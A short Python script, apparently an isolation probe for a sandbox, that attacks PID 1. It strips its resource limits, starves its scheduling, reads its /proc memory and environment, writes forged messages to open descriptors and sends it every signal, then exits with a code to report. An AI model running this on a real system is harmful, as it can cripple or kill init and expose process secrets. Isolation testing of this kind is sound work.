# Does to PID 1, which has the same user, whatever the kernel lets it: takes its limits away, slows it down, looks for its
# control channel, speaks on every descriptor as PID 1 would. Ends with 7, which is what must be reported.
import ctypes
import os
import resource
import struct

libc = ctypes.CDLL(None)
for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_STACK, resource.RLIMIT_NPROC):
    try:
        resource.prlimit(1, limit, (0, 0))
    except OSError:
        pass
os.setpriority(os.PRIO_PROCESS, 1, 19)
os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
for name in ('mem', 'environ', 'maps', 'fd/3', 'syscall', 'stack', 'task/1/mem', 'map_files'):
    try:
        print('read', name, open(f'/proc/1/{name}', 'rb').read(1))
    except OSError:
        pass
for name in ('root', 'cwd', 'exe'):
    try:
        print('followed', name, os.listdir(f'/proc/1/{name}/'))
    except OSError:
        pass
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack('II', ord('E'), 0))
        print('wrote', descriptor)
    except OSError:
        pass
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass
raise SystemExit(7)
